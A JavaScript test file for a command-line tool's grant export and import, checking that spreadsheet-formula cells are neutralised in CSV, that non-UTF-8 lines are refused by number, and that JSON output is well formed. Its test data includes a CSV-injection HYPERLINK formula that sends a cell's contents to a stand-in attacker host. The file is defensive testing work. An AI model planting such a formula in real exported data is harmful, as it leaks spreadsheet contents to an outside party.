// What export writes and import reads is safe and exact: CSV cells that a
// spreadsheet would run as formulas are written as text (a leading
// apostrophe) and read back exactly; a line that is not UTF-8 is refused by
// its number instead of stored as U+FFFD; a directory that does not exist is
// a clean error; --json on standard output is one JSON document.
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import { csvCell, fromCsvCell } from '../../bin/commands/rows.js'
import { cliWorld, grantsOf } from '../cli-helper.js'

t.setTimeout(360_000)

const FORMULAS = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', '+1+1', '-2', '@SUM(A1)', '\tx', '\rx', "'quoted", "''=two"]

t.test('csvCell and fromCsvCell are inverse, and no written cell starts a formula', async (t) => {
  for (const text of [...FORMULAS, 'plain', '', 'a=b', "it's"]) {
    const cell = csvCell(text)
    t.notMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(text))
    t.equal(fromCsvCell(cell), text, `${JSON.stringify(text)} round-trips`)
  }
})

t.test('export → import round-trips formula-like ids exactly, and the CSV neutralises them', async (t) => {
  const world = await cliWorld(t)
  const { cli, dir } = world
  for (const [i, id] of FORMULAS.entries()) {
    const granted = await cli('grant', `user:${id}`, 'read', 'document', id, '--actor', i % 2 === 0 ? id : 'ops')
    t.equal(granted.code, 0, granted.stderr)
  }
  const stored = await grantsOf(world)
  const file = join(dir, 'grants.csv')
  t.equal((await cli('export', file)).code, 0)
  const csv = await readFile(file, 'utf8')
  for (const line of csv.split('\n').slice(1)) {
    for (const cell of line.split(',')) t.notMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`)
  }
  // Into an empty schema of a second world: what comes back is what was stored.
  const other = await cliWorld(t)
  const imported = await other.cli('import', file)
  t.equal(imported.code, 0, imported.stderr)
  t.same(await grantsOf(other), stored, 'exact round trip')
})

t.test('a line that is not UTF-8 is refused by its number; nothing imported', async (t) => {
  const world = await cliWorld(t)
  const good = Buffer.from(`${JSON.stringify({ grantee: { kind: 'user', id: 'bob' }, resource: 'document', id: 'd1', privilege: 'read' })}\n`)
  for (const bytes of [[0xff], [0xed, 0xa0, 0x80], [0xc0, 0xaf]]) {
    const bad = Buffer.concat([Buffer.from('{"grantee":{"kind":"user","id":"bad-'), Buffer.from(bytes), Buffer.from('-id"},"resource":"document","id":"d2","privilege":"read"}\n')])
    const jsonl = join(world.dir, 'bad.jsonl')
    await writeFile(jsonl, Buffer.concat([good, bad, good]))
    const res = await world.cli('import', jsonl)
    t.equal(res.code, 3, `bytes ${bytes.map((b) => b.toString(16)).join(' ')}`)
    t.match(res.stderr, /line 2: not valid UTF-8 text/)
    const csv = join(world.dir, 'bad.csv')
    await writeFile(csv, Buffer.concat([Buffer.from('granteeKind,granteeId,resource,id,privilege\nuser,bob,document,d1,read\nuser,bad-'), Buffer.from(bytes), Buffer.from('-id,document,d2,read\n')]))
    const fromCsv = await world.cli('import', csv)
    t.equal(fromCsv.code, 3)
    t.match(fromCsv.stderr, /line 3: not valid UTF-8 text/)
  }
  t.same(await grantsOf(world), [], 'nothing was imported')
})

t.test('export to a directory that does not exist: exit 2, one JSON document with --json; --json to standard output is one document', async (t) => {
  const world = await cliWorld(t)
  t.equal((await world.cli('grant', 'user:alice', 'read', 'document', 'd1')).code, 0)
  const missing = await world.cli('export', join(world.dir, 'no', 'such', 'dir', 'grants.csv'), '--json')
  t.equal(missing.code, 2)
  t.match(missing.stderr, /cannot write there \(no such directory\)/)
  t.match(missing.json, { error: { exitCode: 2 } })
  t.notMatch(missing.stderr, /\n\s+at /, 'no stack trace')
  const whole = await world.cli('export', '--json')
  t.equal(whole.code, 0, whole.stderr)
  t.match(whole.json, { format: 'json', exported: 1, grants: [{ grantee: { kind: 'user', id: 'alice' }, resource: 'document', id: 'd1', privilege: 'read' }] })
  t.equal(typeof whole.json.database, 'string')
  const empty = await cliWorld(t)
  t.match((await empty.cli('export', '--json')).json, { exported: 0, grants: [] })
})
